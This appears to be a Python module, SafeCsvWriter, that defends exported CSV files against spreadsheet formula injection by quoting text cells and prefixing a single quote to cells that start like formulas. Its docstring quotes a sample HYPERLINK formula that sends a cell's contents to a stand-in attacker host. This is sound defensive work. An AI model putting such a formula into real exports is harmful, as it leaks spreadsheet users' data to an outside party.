"""CSV that a spreadsheet opens as data: no text cell is read as a formula, none splits in two.

A spreadsheet takes a cell that starts with `=`, `+`, `-` or `@` (or with a tab or a carriage
return, which some strip before looking) for a formula: an exported job title of
`=HYPERLINK("http://evil.example/?"&A1, "Click")` would run in the reader's spreadsheet. As OWASP
recommends (CSV Injection), such a text cell gets a single quote in front of it, which the
spreadsheet shows as text, and is quoted. Every text cell is quoted, not only those: a delimiter
or a line break inside a quoted cell stays in it, whatever delimiter the spreadsheet guesses (`;`
in many locales), so no text can start a cell of its own.

Only text is escaped. Numbers (`int`, `float`) are written as they are, so -3.5 in a numeric
column stays the number -3.5; a text cell "-3.5" (a company named so, say) is written `'-3.5`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(text: str) -> str:
    """`text` as a spreadsheet shows it as text: with a quote in front when it starts like a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """`csv.writer` whose text cells are escaped (`escape_cell`) and always quoted; numbers (`int`,
    `float`, `bool`) stay numbers, None is an empty cell, anything else is written as its text."""

    def __init__(self, stream: TextIO, lineterminator: str = "\r\n") -> None:
        self._rows = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._rows.writerow([cell if isinstance(cell, int | float) else escape_cell("" if cell is None else str(cell))
                             for cell in row])
